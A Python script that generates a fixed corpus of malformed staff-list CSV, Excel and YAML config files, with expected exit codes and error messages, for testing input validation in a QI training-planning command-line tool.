"""(Re)generate the bad-input corpus in tests/data/bad/ and its table, cases.yaml.

    python tests/data/bad/make_bad.py

Deterministic: the same bytes every run (fixed seeds, fixed xlsx timestamps), so the files
are committed and a diff shows what changed. Most staff lists are derived from
tests/data/staff_tiny.csv, so a "same plan" case holds the same people as the clean file.
Configs are derived from CONFIG_BASE below, one line changed each, and the line number the
message must name is computed here, not typed by hand.

Each case in cases.yaml: id, file (relative to this folder), args (with {file}, {tiny},
{bad} placeholders), exit, stderr (fragments that must all appear; "re:" for a regex),
and optionally same_plan (the JSON plan must equal the clean file's), warn_ok (a warning
is allowed on a same-plan case), stdin (a file fed to standard input), must_not_exist
(a path that running the case must not create).
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import random
import re
import zipfile
from pathlib import Path

import yaml

HERE = Path(__file__).resolve().parent
TINY = HERE.parent / "staff_tiny.csv"
AS_OF = "2026-10-01"
PWNED = "/tmp/qidose-yaml-code-ran"
PLAN = ["plan", "{file}", "--format", "json", "--as-of", AS_OF]
TINY_PLAN = ["plan", "{tiny}", "--format", "json", "--as-of", AS_OF]

CASES: list[dict] = []


def case(id_, file, exit_, stderr=(), args=None, **extra):
    CASES.append({"id": id_, "file": file, "args": list(args or PLAN), "exit": exit_,
                  "stderr": list(stderr), **extra})


# -- the clean staff list ------------------------------------------------------------------------

with TINY.open(encoding="utf-8", newline="") as f:
    TABLE = list(csv.reader(f))
HEADER, ROWS = TABLE[0], TABLE[1:]
COL = {name: i for i, name in enumerate(HEADER)}


def row_of(eid: str, nth: int = 0) -> int:
    """Index into ROWS of the nth row of an employee (the spreadsheet row is index + 2)."""
    return [i for i, r in enumerate(ROWS) if r[0] == eid][nth]


def sheet_row(eid: str, nth: int = 0, above: int = 1) -> int:
    return row_of(eid, nth) + 1 + above


def rows_copy() -> list[list[str]]:
    return [list(r) for r in ROWS]


def set_cell(rows, eid, column, value, nth=0):
    rows[row_of(eid, nth)][COL[column]] = value
    return rows


def to_text(rows, header=HEADER, delimiter=",", newline="\n", quoting=csv.QUOTE_MINIMAL) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline, quoting=quoting).writerows([header] + rows)
    return out.getvalue()


def write(name: str, data: str | bytes, encoding: str = "utf-8") -> str:
    (HERE / name).write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return name


CLEAN = to_text(rows_copy())
assert CLEAN == TINY.read_text(encoding="utf-8"), "staff_tiny.csv is not in csv.writer's form"


# -- staff lists that must give the clean plan ---------------------------------------------------

case("clean", "../staff_tiny.csv", 0, same_plan=True)
case("utf8_bom", write("utf8_bom.csv", codecs.BOM_UTF8 + CLEAN.encode()), 0, same_plan=True)
case("bom_quoted_header", write("bom_quoted_header.csv", codecs.BOM_UTF8 + to_text(rows_copy(), quoting=csv.QUOTE_ALL).encode()),
     0, same_plan=True)
case("crlf", write("crlf.csv", to_text(rows_copy(), newline="\r\n")), 0, same_plan=True)
case("cr_only", write("cr_only.csv", to_text(rows_copy(), newline="\r")), 0, same_plan=True)
case("cp1252_with_encoding", write("cp1252.csv", to_text(rows_copy(), newline="\r\n"), "cp1252"), 0,
     args=PLAN + ["--encoding", "cp1252"], same_plan=True)
# Excel "Unicode text": UTF-16 LE with a BOM, tab-separated, CRLF, saved as .txt
case("utf16_unicode_text", write("unicode_text.txt", codecs.BOM_UTF16_LE
                                 + to_text(rows_copy(), delimiter="\t", newline="\r\n").encode("utf-16-le")),
     0, same_plan=True)
case("tab_separated", write("tab_separated.tsv", to_text(rows_copy(), delimiter="\t")), 0, same_plan=True)
write("semicolon.csv", to_text(rows_copy(), delimiter=";", newline="\r\n"))
case("semicolon_with_delimiter", "semicolon.csv", 0, args=PLAN + ["--delimiter", ";"], same_plan=True)

# European-locale Excel: ';' separator and decimal commas
rows = rows_copy()
for r in rows:
    r[COL["FTE"]] = r[COL["FTE"]].replace(".", ",")
comma_rows = [i + 2 for i, r in enumerate(rows) if "," in r[COL["FTE"]] and r[COL["Assignment Status"]] != "Maternity Leave"]
case("semicolon_decimal_comma", write("semicolon_decimal_comma.csv", to_text(rows, delimiter=";", newline="\r\n")), 0,
     ["semicolon_decimal_comma.csv", f"re:\\b{len(comma_rows)}\\b", "comma"], args=PLAN + ["--delimiter", ";"], same_plan=True)

width = len(HEADER)
out = io.StringIO()
w = csv.writer(out, lineterminator="\r\n")
w.writerow(["Staff List - All Staff in Post"])              # some exports trim the empty cells of a title row,
w.writerow(["Organisation: 999 Example NHS Foundation Trust"] + [""] * (width - 1))   # others pad it to width
w.writerow(["Report run: 01/10/2026 06:00"] + [""] * (width - 1))
w.writerow([""] * width)
w.writerows(TABLE)
write("title_rows.csv", out.getvalue())
case("title_rows_found", "title_rows.csv", 0, same_plan=True)
case("title_rows_skip_lines", "title_rows.csv", 0, args=PLAN + ["--skip-lines", "4"], same_plan=True)
case("skip_lines_too_many", "title_rows.csv", 1, ["title_rows.csv", "--skip-lines"], args=PLAN + ["--skip-lines", "500"])

# ESR BI prints its prompts above the header: "Staff Group:", "All", "Grade:", "All"
out = io.StringIO()
w = csv.writer(out, lineterminator="\r\n")
w.writerow(["Staff in Post by Directorate"])
w.writerow(["Staff Group:", "All", "Grade:", "All", "Directorate:", "All"])
w.writerow([])
w.writerows(TABLE)
case("title_rows_with_prompts", write("title_rows_prompts.csv", out.getvalue()), 0, same_plan=True)

lines = CLEAN.splitlines(keepends=True)
blank = lines[:5] + ["\n"] + lines[5:9] + ["," * (width - 1) + "\n"] + lines[9:13] + ["\n", "\n"] + lines[13:] + ["\n", ",,,,\n", "\n"]
case("blank_rows", write("blank_rows.csv", "".join(blank)), 0, same_plan=True, warn_ok=True)

total = ["Grand Total"] + [""] * (width - 1)
total[COL["FTE"]] = "18.83"
case("total_row", write("total_row.csv", to_text(rows_copy() + [total])), 0,
     ["total_row.csv", "total", "re:\\b1\\b"], same_plan=True)

out = io.StringIO()
w = csv.writer(out, lineterminator="\n")
w.writerow(HEADER)
for i, r in enumerate(ROWS):
    if i % 3 == 0:
        while r and r[-1] == "":
            r = r[:-1]          # trailing empty cells dropped
    w.writerow(r)
case("ragged_rows", write("ragged_rows.csv", out.getvalue()), 0, same_plan=True, warn_ok=True)

text = to_text(rows_copy())
case("separator_after_every_row", write("separator_after_every_row.csv",
     text.split("\n", 1)[0] + "\n" + text.split("\n", 1)[1].replace("\n", ",,\n")), 0, same_plan=True)

# Empty cells past the header on some rows only: as an unquoted name ("Surname, Title Forename") in a
# row with no QI training leaves them, the row's values may be in the wrong columns: skipped, and said
rows = rows_copy()
longer = [i for i, r in enumerate(rows) if r[-1] == ""][2:5]
text = to_text([r + [""] if i in longer else r for i, r in enumerate(rows)])
case("longer_rows_with_empty_ends", write("longer_rows_with_empty_ends.csv", text), 0,
     ["longer_rows_with_empty_ends.csv", "3 rows: more cells than the header",
      "rows " + ", ".join(str(i + 2) for i in longer), "skipped"])

rows = rows_copy()
set_cell(rows, "10000014", "Position Title", "Porter\n(nights), Estates")
set_cell(rows, "10000015", "Position Title", 'Café "Bistro" Assistant,\r\nMain Entrance')
set_cell(rows, "10000017", "Position Title", "Medical Secretary, Cardiology\nand Respiratory")
case("quoted_newlines_commas", write("quoted_newlines.csv", to_text(rows, newline="\r\n")), 0, same_plan=True)

text = to_text(rows_copy())
text = text.replace("Band 5,", "Band 5\x00,").replace("Surgery,Allied", "Surgery\x00,Allied", 1)
text = text.replace(",Pocket QI\n", ",Pocket QI\x00\x00\n", 1)
case("nul_bytes", write("nul_bytes.csv", text), 0, same_plan=True, warn_ok=True)

rows = rows_copy()
set_cell(rows, "10000014", "Position Title", "Porter " + "x" * 140_000)
case("very_long_field", write("long_field.csv", to_text(rows)), 0, same_plan=True, warn_ok=True)

# NULs after the first 64 KB (past any sniffed head), inside the employee number of a second assignment
rows = rows_copy()
set_cell(rows, "10000001", "Position Title", "Chief Executive " + "x" * 70_000)
set_cell(rows, "10000007", "Employee Number", "10000007\x00", nth=1)
set_cell(rows, "10000012", "Grade", "Band\x00 3")
case("nul_bytes_late", write("nul_bytes_late.csv", to_text(rows)), 0, same_plan=True, warn_ok=True)

dups = rows_copy()
dup_rows = [row_of("10000006"), row_of("10000012")]
dups = dups[:dup_rows[0] + 1] + [list(ROWS[dup_rows[0]])] + dups[dup_rows[0] + 1:]
dups.append(list(ROWS[dup_rows[1]]))
case("duplicate_rows", write("duplicate_rows.csv", to_text(dups)), 0,
     ["duplicate_rows.csv", "duplicate", "re:\\b2\\b"], same_plan=True)


def renamed(mapping: dict[str, str]) -> list[str]:
    return [mapping.get(h, h) for h in HEADER]


case("headers_esr_dw", write("headers_dw.csv", to_text(rows_copy(), header=renamed({
    "Employee Number": "Unique Nhs Identifier", "Assignment Number": "Asg Number", "Staff Group": "StaffGroup",
    "Grade": "Banding", "FTE": "Contracted Wte"}))), 0, same_plan=True)
case("headers_esr_bi", write("headers_bi.csv", to_text(rows_copy(), header=renamed({
    "Staff Group": "STAFF_GROUP", "Grade": "AfC Band", "Position Title": "PositionTitle",
    "Start Date": "StartDateInPosition", "Assignment Status": "STATUS"}))), 0, same_plan=True)
case("headers_organization_name", write("headers_organization.csv", to_text(rows_copy(), header=renamed({
    "Directorate": "Organization Name"}))), 0, ["services are counted from the 'Organization Name' column",
                                                  "--services N"], same_plan=True, warn_ok=True)

bands = {"Band 8C": "AfC Band 8c", "Band 8A": "8a", "Band 8B": "band 8B ", "Band 7": "NHS|XR07|Review Body Band 7",
         "Band 5": "XR05|Review Body Band 5", "Band 1": "Apprentice/Band 1", "Band 6": "NHS|XR06|Review Body Band 6",
         "Band 3": "Band 03", "Band 2": "BAND 2", "Very Senior Manager": "VSM"}
rows = rows_copy()
for r in rows:
    r[COL["Grade"]] = bands.get(r[COL["Grade"]], r[COL["Grade"]])
case("band_variants", write("band_variants.csv", to_text(rows)), 0, same_plan=True)


def date_forms(d: dt.date) -> list[str]:
    return [d.strftime("%Y-%m-%d"), d.strftime("%Y%m%d"), str((d - dt.date(1899, 12, 30)).days),
            d.strftime("%d/%m/%Y"), d.strftime("%Y-%m-%d 00:00:00"), d.strftime("%d-%b-%Y").upper()]


rows = rows_copy()
for i, r in enumerate(rows):
    d = dt.datetime.strptime(r[COL["Start Date"]], "%d/%m/%Y").date()
    r[COL["Start Date"]] = date_forms(d)[i % 6]
case("date_formats", write("date_formats.csv", to_text(rows)), 0, same_plan=True)

rows = set_cell(rows_copy(), "10000017", "FTE", "80%")
case("fte_percent", write("fte_percent.csv", to_text(rows)), 0, same_plan=True, warn_ok=True)
rows = set_cell(set_cell(rows_copy(), "10000017", "FTE", "0.8 "), "10000005", "FTE", " 1")
case("fte_spaces", write("fte_spaces.csv", to_text(rows)), 0, same_plan=True, warn_ok=True)
rows = set_cell(set_cell(rows_copy(), "10000005", "FTE", "1,0"), "10000017", "FTE", "0,8")
case("fte_decimal_comma", write("fte_comma.csv", to_text(rows)), 0,
     ["fte_comma.csv", "re:\\b2\\b", "comma"], same_plan=True)
case("strict_turns_warning_into_error", "fte_comma.csv", 1, ["fte_comma.csv", "--strict"], args=PLAN + ["--strict"])

# stdin
case("stdin_bom", "utf8_bom.csv", 0, args=["plan", "-", "--format", "json", "--as-of", AS_OF], stdin="utf8_bom.csv",
     same_plan=True)

# -- staff lists: a plan with a counted warning ------------------------------------------------

for id_, value, words in (("fte_empty", "", "FTE"), ("fte_negative", "-1", "FTE"), ("fte_hours_in_fte", "37.5", "FTE"),
                          ("fte_nan", "NaN", "FTE"), ("fte_text", "full time", "FTE")):
    name = write(f"{id_}.csv", to_text(set_cell(rows_copy(), "10000005", "FTE", value)))
    case(id_, name, 0, [name, words, "re:\\b1\\b"])

rows = set_cell(set_cell(rows_copy(), "10000014", "Grade", "Band 8E"), "10000015", "Grade", "Grade X")
case("unknown_band", write("unknown_band.csv", to_text(rows)), 0, ["unknown_band.csv", "re:\\b2\\b", "grade"])
rows = set_cell(set_cell(rows_copy(), "10000014", "Start Date", "31/02/2020"), "10000015", "Start Date", "next week")
case("bad_dates", write("bad_dates.csv", to_text(rows)), 0,
     ["bad_dates.csv", "start date", "re:\\b2\\b"])
rows = set_cell(set_cell(rows_copy(), "10000007", "Directorate", "Surgery", nth=1), "10000007", "Grade", "Band 6", nth=1)
case("conflicting_person", write("conflicting_person.csv", to_text(rows)), 0,
     ["conflicting_person.csv", "re:\\b1\\b"])
rows = set_cell(rows_copy(), "10000016", "Employee Number", "")
case("no_employee_number", write("no_employee_number.csv", to_text(rows)), 0,
     ["no_employee_number.csv", "employee number", "re:\\b1\\b"])
rows = set_cell(rows_copy(), "10000016", "QI Role", "Lean Ninja")
case("unknown_qi_role", write("unknown_qi_role.csv", to_text(rows)), 0,
     ["unknown_qi_role.csv", "QI role", "re:\\b1\\b"])

# -- staff lists: errors ---------------------------------------------------------------------

case("missing_file", "no_such_staff_list.csv", 1, ["no_such_staff_list.csv", "no such file"])
(HERE / "folder_not_file").mkdir(exist_ok=True)
write("folder_not_file/.gitkeep", "")
case("directory", "folder_not_file", 1, ["folder_not_file", "directory"])
case("empty_file", write("empty.csv", b""), 1, ["empty.csv", "empty"])
case("blank_lines_only", write("blank_lines_only.csv", "\r\n\r\n,,,\r\n\r\n"), 1, ["blank_lines_only.csv", "re:empty|no header"])
case("header_only", write("header_only.csv", to_text([])), 1, ["header_only.csv", "no staff rows"])
case("not_a_staff_list", write("budget.csv", "Cost Centre,Budget,Actual\nL8-7850,120000,118250.50\nL8-7851,98000,101200\n"),
     1, ["budget.csv", "staff list", "--skip-lines"])
case("png_named_csv", write("picture.csv", bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")
                            + bytes(range(256))), 1, ["picture.csv"])
case("random_bytes", write("random_bytes.csv", random.Random(3).randbytes(3000)), 1, ["random_bytes.csv"])
case("yaml_as_staff_list", "../../../config/doses.yaml", 1, ["doses.yaml", "staff list"])

case("missing_employee_column", write("no_employee_column.csv", to_text(rows_copy(), header=renamed({
    "Employee Number": "Employe Numbr"}))), 1,
    ["no_employee_column.csv", "Employee Number", "columns found", "Employe Numbr"])
keep = [i for i, h in enumerate(HEADER) if h not in ("Job Role", "Position Title", "Grade")]
case("no_classifying_columns", write("no_classifying_columns.csv",
                                     to_text([[r[i] for i in keep] for r in ROWS], header=[HEADER[i] for i in keep])),
     1, ["no_classifying_columns.csv", "Job Role", "Grade"])
first_non_ascii = next(i + 2 for i, r in enumerate(ROWS) if any(ord(c) > 127 for c in ",".join(r)))
case("not_utf8", write("cp1252.csv", to_text(rows_copy(), newline="\r\n"), "cp1252"), 1,
     ["cp1252.csv", f"row {first_non_ascii}", "--encoding cp1252"])
case("not_utf8_stdin", "cp1252.csv", 1, ["stdin", "--encoding cp1252"],
     args=["plan", "-", "--format", "json", "--as-of", AS_OF], stdin="cp1252.csv")
case("empty_stdin", "empty.csv", 1, ["stdin", "empty"], args=["plan", "-", "--format", "json"], stdin="empty.csv")
late = to_text(rows_copy()).encode().replace(b"Occupational Therapist Band 5", b"Occupational Therapist \xa3 Band 5")
case("not_utf8_last_row", write("not_utf8_last_row.csv", late), 1,
     ["not_utf8_last_row.csv", f"row {len(ROWS) + 1}", "--encoding cp1252"])
case("semicolon_without_delimiter", "semicolon.csv", 1, ["semicolon.csv", "--delimiter ';'"])
case("pipe_separated", write("pipe.csv", to_text(rows_copy(), delimiter="|")), 1, ["pipe.csv", "--delimiter"])
# (pipe.csv, written just above:) a quote or a line end cannot be the separator
for name, char in (("quote", '"'), ("newline", "\n"), ("carriage_return", "\r")):
    case(f"{name}_as_delimiter", "pipe.csv", 2, ["--delimiter", "cannot separate columns"], args=PLAN + ["--delimiter", char])
lines = to_text(rows_copy()).splitlines(keepends=True)
quote_row = sheet_row("10000006")
lines[quote_row - 1] = lines[quote_row - 1].replace(",Ward Manager - Ward 7,", ',"Ward Manager - Ward 7,')
case("unclosed_quote", write("unclosed_quote.csv", "".join(lines)), 1, ["unclosed_quote.csv", f"row {quote_row}", "quote"])
# spaces between a quote and its comma: Python's csv keeps ` "Corporate"` whole (duckdb would not),
# and refuses `"Band 5" ,`
lines = to_text(rows_copy()).splitlines(keepends=True)
loose_row = sheet_row("10000002")
lines[loose_row - 1] = lines[loose_row - 1].replace(",Corporate,", ', "Corporate",')
case("space_before_quote", write("space_before_quote.csv", "".join(lines)), 0)
lines = to_text(rows_copy()).splitlines(keepends=True)
lines[loose_row - 1] = lines[loose_row - 1].replace(",Corporate,", ',"Corporate" ,')
case("space_after_quote", write("space_after_quote.csv", "".join(lines)), 1,
     ["space_after_quote.csv", f"row {loose_row}", "quote"])
# a name with its comma but without its quotes: the row has a cell more than the header, its values shifted
lines = to_text(rows_copy()).splitlines(keepends=True)
unquoted_row = sheet_row("10000002")
name = ROWS[row_of("10000002")][COL["Full Name"]]
lines[unquoted_row - 1] = lines[unquoted_row - 1].replace(f'"{name}"', name)
case("unquoted_comma_in_name", write("unquoted_name.csv", "".join(lines)), 0,
     ["unquoted_name.csv", "more cells than the header", f"row {unquoted_row}", "skipped"],
     args=PLAN + ["--by", "Directorate"])
# digits that are not 0-9 (a superscript two is a digit to str.isdigit, but not to int())
rows = set_cell(set_cell(rows_copy(), "10000003", "Employee Number", "\u00b2"), "10000002", "Start Date", "\u00b3")
case("superscript_digits", write("superscript_digits.csv", to_text(rows)), 0,
     ["superscript_digits.csv", "start date", f"row {sheet_row('10000002')}"])
# numbers that are not numbers: nan and inf pass float(), and would reach the JSON
case("learning_hours_nan", "../staff_tiny.csv", 2, ["--learning-hours", "must be a number from 0 to", "found nan"],
     args=TINY_PLAN + ["--learning-hours", "nan"])
case("services_word", "../staff_tiny.csv", 2, ["--services", "services must be a number, found 'twelve'"],
     args=TINY_PLAN + ["--services", "twelve"])
case("set_inf", "../staff_tiny.csv", 2, ["--set learning_hours=inf", "must be a number from 0 to"],
     args=["compare", "{tiny}", "--set", "learning_hours=inf", "--format", "json", "--as-of", AS_OF])
case("org_learning_hours_nan", write("org_nan.yaml", "learning_hours: .nan\n"), 2,
     ["org_nan.yaml line 1", "learning_hours must be a number"], args=TINY_PLAN + ["--org", "{file}"])
# numbers too large to be counts, hours or costs: refused before they overflow
case("services_huge", "../staff_tiny.csv", 2, ["--services"], args=TINY_PLAN + ["--services", str(10**308)])
case("org_learning_hours_huge", write("org_huge.yaml", f"learning_hours: {10**330}\n"), 2,
     ["org_huge.yaml line 1", "learning_hours must be a number from 0 to"], args=TINY_PLAN + ["--org", "{file}", "--years", "5"])
case("set_hourly_cost_huge", "../staff_tiny.csv", 2, ["--set hourly_cost=1e306", "must be a number from 0 to"],
     args=["compare", "{tiny}", "--set", "hourly_cost=1e306", "--years", "5", "--format", "json", "--as-of", AS_OF])
# a records file reads with its own separator: cells of several courses joined by ';' under a comma
# header; a comma-separated records file beside a ';' staff list (--delimiter is the staff list's)
write("records_courses.csv", "Employee Number,Course Name\n10000004,Introduction to QI;Pocket QI;Improvement Coaching\n"
                             "10000006,Introduction to QI;Pocket QI;Measurement for Improvement\n")
case("records_several_courses_in_a_cell", "records_courses.csv", 0, args=TINY_PLAN + ["--trained", "{file}"])
case("records_commas_staff_semicolons", "records_courses.csv", 0,
     args=["plan", "{bad}/semicolon.csv", "--delimiter", ";", "--trained", "{file}", "--format", "json", "--as-of", AS_OF])
case("records_superscript_digits", write("records_superscript.csv",
                                         "Employee Number,Course Name\n\u00b2,Introduction to QI\n10000004,Introduction to QI\n"),
     0, ["records_superscript.csv", "not a person in post"], args=TINY_PLAN + ["--trained", "{file}"])
rows = rows_copy()
for r in rows:
    r[COL["Assignment Status"]] = "Maternity Leave"
case("nobody_in_post", write("nobody_in_post.csv", to_text(rows)), 1, ["nobody_in_post.csv", "in post"])
# the header row forced onto a row of personal data: the message must not quote it
case("skip_lines_onto_data", "../staff_tiny.csv", 1, ["staff_tiny.csv", "--skip-lines"],
     args=TINY_PLAN + ["--skip-lines", "1"])


# -- Excel ------------------------------------------------------------------------------------

FIXED = dt.datetime(2026, 1, 1, 0, 0, 0)


def xlsx_bytes(sheets: list[tuple[str, list[list]]]) -> bytes:
    """A workbook, written by openpyxl, with fixed timestamps so the bytes never change."""
    import openpyxl
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    book.properties.creator = "qidose tests"
    book.properties.created = FIXED
    raw = io.BytesIO()
    book.save(raw)
    src = zipfile.ZipFile(io.BytesIO(raw.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in sorted(src.infolist(), key=lambda i: i.filename):
            data = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2026-01-01T00:00:00Z", data)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=FIXED.timetuple()[:6]), data,
                         compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def typed(rows: list[list[str]]) -> list[list]:
    """Cells as Excel holds them: numbers as numbers, dates as dates."""
    out = []
    for r in rows:
        t = list(r)
        t[COL["Employee Number"]] = int(r[COL["Employee Number"]])
        t[COL["FTE"]] = float(r[COL["FTE"]])
        t[COL["Start Date"]] = dt.datetime.strptime(r[COL["Start Date"]], "%d/%m/%Y")
        out.append([None if v == "" else v for v in t])
    return out


tiny_xlsx = xlsx_bytes([("Staff List", [HEADER] + typed(ROWS))])
case("xlsx", write("staff_tiny.xlsx", tiny_xlsx), 0, same_plan=True)
titled = xlsx_bytes([("Notes", [["This report lists staff in post."], ["Source: ESR BI"]]),
                     ("Staff List", [["Staff List - All Staff in Post"], ["Run: 01/10/2026"], [], HEADER] + typed(ROWS))])
write("titled.xlsx", titled)
case("xlsx_title_rows_sheet", "titled.xlsx", 0, args=PLAN + ["--sheet", "Staff List"], same_plan=True)
case("xlsx_first_sheet_not_staff", "titled.xlsx", 1, ["titled.xlsx", "--sheet"])
case("xlsx_missing_sheet", "titled.xlsx", 2, ["--sheet", "Staffing", "Staff List"], args=PLAN + ["--sheet", "Staffing"])
case("xlsx_named_csv", write("xlsx_named.csv", tiny_xlsx), 0, same_plan=True)
case("csv_named_xlsx", write("csv_named.xlsx", CLEAN), 1, ["csv_named.xlsx", "xlsx"])
case("xlsx_truncated", write("truncated.xlsx", tiny_xlsx[:400]), 1, ["truncated.xlsx", "xlsx"])
case("xlsx_empty_sheet", write("empty_sheet.xlsx", xlsx_bytes([("Sheet1", [])])), 1, ["empty_sheet.xlsx", "empty"])
ole2 = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
case("xls_legacy", write("legacy.xls", ole2), 1, ["legacy.xls", ".xls", "xlsx"])


# -- command-line values --------------------------------------------------------------------

for id_, extra, fragments in (
    ("turnover_over_1", ["--turnover", "1.7"], ["--turnover", "1.7"]),
    ("turnover_text", ["--turnover", "abc"], ["--turnover", "abc"]),
    ("turnover_negative", ["--turnover=-0.1"], ["--turnover"]),
    ("format_unknown", ["--format", "nope"], ["--format", "nope"]),
    ("delimiter_two_chars", ["--delimiter", ";;"], ["--delimiter"]),
    ("sheet_on_csv", ["--sheet", "Staff List"], ["--sheet"]),
    ("encoding_unknown", ["--encoding", "klingon"], ["--encoding", "klingon"]),
    ("as_of_not_a_date", ["--as-of", "2026-13-45"], ["--as-of"]),
    ("skip_lines_negative", ["--skip-lines", "-1"], ["--skip-lines"]),
    ("learning_hours_negative", ["--learning-hours", "-3"], ["--learning-hours"]),
    ("maturity_unknown", ["--maturity", "advanced"], ["--maturity", "developing"]),
    ("by_missing_column", ["--by", "Directorat"], ["--by", "Directorate"]),
    ("by_name_column", ["--by", "Full Name"], ["--by"]),
    ("config_missing", ["--config", "no_such_policy.yaml"], ["no_such_policy.yaml", "no such file"]),
    ("org_missing", ["--org", "no_such_profile.yaml"], ["no_such_profile.yaml", "no such file"]),
):
    case(id_, "../staff_tiny.csv", 2, fragments, args=TINY_PLAN + extra)
# --by a column of people's names: refused by its header, or whatever the header by ESR's name shape
managers = [r[COL["Full Name"]] for r in ROWS]
rows = [r + [managers[(i + 1) % len(managers)]] for i, r in enumerate(rows_copy())]
case("by_line_manager", write("by_line_manager.csv", to_text(rows, header=HEADER + ["Line Manager"])), 2,
     ["--by 'Line Manager'", "identifies people"], args=PLAN + ["--by", "Line Manager"])
case("by_names_under_another_header", write("by_ward.csv", to_text(rows, header=HEADER + ["Ward"])), 2,
     ["--by 'Ward'", "look like people's names"], args=PLAN + ["--by", "Ward"])
# odd calls that once gave tracebacks (an adversarial review)
case("encoding_utf16_without_bom", "../staff_tiny.csv", 1, ["staff_tiny.csv", "not utf-16 text"],
     args=TINY_PLAN + ["--encoding", "utf-16"])
case("encoding_not_text", "../staff_tiny.csv", 2, ["--encoding 'rot13'", "not a text encoding"],
     args=TINY_PLAN + ["--encoding", "rot13"])
case("as_of_before_1900", "../staff_tiny.csv", 2, ["--as-of", "before 1900"],
     args=["plan", "{tiny}", "--format", "json", "--as-of", "0001-06-01"])
case("output_name_too_long", "../staff_tiny.csv", 2, ["-o", "too long"],
     args=TINY_PLAN + ["-o", "{bad}/" + "a" * 300 + ".json"])
case("staff_and_records_both_stdin", "../staff_tiny.csv", 2, ["standard input"],
     args=["plan", "-", "--trained", "-", "--format", "json", "--as-of", AS_OF], stdin="../staff_tiny.csv")
case("xlsx_on_stdin", "staff_tiny.xlsx", 1, ["stdin", "xlsx", "its path"],
     args=["plan", "-", "--format", "json", "--as-of", AS_OF], stdin="staff_tiny.xlsx")
rows = rows_copy()
rows[row_of("10000005")][COL["Employee Number"]] = "9" * 4400
case("employee_number_4400_digits", write("employee_number_4400_digits.csv", to_text(rows)), 0)
rows = rows_copy()
for r in rows:
    r[COL["Employee Number"]] = ""
case("no_employee_numbers", write("no_employee_numbers.csv", to_text(rows)), 1,
     ["no_employee_numbers.csv", "has an employee number", "'Employee Number'"])
# a budget so small that gap / budget overflows: the plan must still be valid JSON (no Infinity)
case("learning_hours_tiny", "../staff_tiny.csv", 0, args=TINY_PLAN + ["--turnover", "0", "--learning-hours", "1e-320"])


# -- configs ----------------------------------------------------------------------------------

CONFIG_BASE = """\
# A small valid dosing policy: each bad config changes one line of it (see make_bad.py).
schema: 1
hours_per_day: 7.5
modules:
  intro_online:
    label: QI foundations (e-learning)
    hours: 3.5
    delivery: virtual
    recorded_as: [Pocket QI, IHI Open School]
  intro_workshop:
    label: Introduction to QI workshop
    hours: 4
    delivery: face_to_face
    cohort_size: 30
    facilitators_per_cohort: 3
    recorded_as: [Pocket QI]
  board_development:
    hours: 7.5
    delivery: face_to_face
    cohort_size: 16
    facilitators_per_cohort: 2
    recorded_as: [Board QI Development]
  leading_improvement:
    hours: 22.5
    delivery: face_to_face
    cohort_size: 25
    facilitators_per_cohort: 3
    recorded_as: [Measurement for Improvement]
  coaching:
    hours: 52.5
    delivery: face_to_face
    cohort_size: 25
    facilitators_per_cohort: 3
    recorded_as: [Improvement Coaching]
levels:
  board:
    kind: role
    rank: 1
    dose: {includes: [all_staff], modules: [board_development]}
    coverage: 1.0
  senior_leaders:
    kind: role
    rank: 2
    dose: {includes: [all_staff], modules: [leading_improvement]}
    coverage: 1.0
  middle_managers:
    kind: role
    rank: 3
    dose: {includes: [senior_leaders]}
    coverage: 0.8
  all_staff:
    kind: role
    rank: 4
    dose: {modules: [intro_online, intro_workshop]}
    coverage: 1.0
  quality_coaches:
    kind: capacity
    dose: {includes: [middle_managers], modules: [coaching]}
    capacity: {per_1000_staff: 10, per_service: 1, minimum: 2}
    qi_role: [Quality Coach]
  internal_experts:
    kind: capacity
    dose: {includes: [quality_coaches]}
    capacity: {per_1000_staff: 1, minimum: 2}
    qi_role: [Improvement Advisor]
characteristics:
  turnover: {default: 0.1}
  learning_hours: {default: null}
  maturity:
    default: developing
    values:
      starting: [{level: all_staff, multiply: coverage, by: 0.5}]
      developing: []
  leadership_commitment:
    default: medium
    values: {low: [], medium: [], high: []}
staff_list:
  columns:
    employee_id: [Employee Number]
    staff_group: [Staff Group]
    job_role: [Job Role]
    position_title: [Position Title]
    band: [Grade]
    fte: [FTE]
    status: [Assignment Status]
    service: [Directorate]
    start_date: [Start Date]
    qi_role: [QI Role]
    qi_training: [QI Training]
  in_post: [Active Assignment, Internal Secondment, Acting Up]
  band_words:
    medical: [Medical]
    vsm: [Very Senior Manager]
membership:
  board:
    job_role: [Chair, Chief Executive, Finance Director, Non Executive Director]
    position_title: ['^director of']
  senior_leaders:
    band: [8c, 8d, 9, vsm]
  middle_managers:
    band: [8a, 8b]
    job_role: [Ward Manager, Modern Matron, Sister/Charge Nurse]
"""
CHECK = ["check-config", "{file}"]


def config_case(id_, old, new, fragments, report=None, exit_=2, **extra):
    """A config that differs from CONFIG_BASE in one place; '{line}' in a fragment is the changed line."""
    assert CONFIG_BASE.count(old) == 1, old
    at = CONFIG_BASE.index(old) + (new.index(report) if report else 0)
    text = CONFIG_BASE.replace(old, new, 1)
    line = text[:at].count("\n") + 1
    name = write(f"cfg_{id_}.yaml", text)
    fragments = [] if fragments is None else [name] + fragments
    case(f"config_{id_}", name, exit_, [f.replace("{line}", str(line)) for f in fragments],
         args=extra.pop("args", CHECK), **extra)


case("config_base_ok", write("cfg_ok.yaml", CONFIG_BASE), 0, args=CHECK)
config_case("hours_per_day_huge", "hours_per_day: 7.5\n", f"hours_per_day: {10**400}\n", ["line {line}", "out of range"])
config_case("employee_id_empty", "    employee_id: [Employee Number]\n", "    employee_id: []\n",
            ["line {line}", "employee_id", "at least one"])
config_case("in_post_empty", "  in_post: [Active Assignment, Internal Secondment, Acting Up]\n", "  in_post: []\n",
            ["line {line}", "in_post", "at least one"])
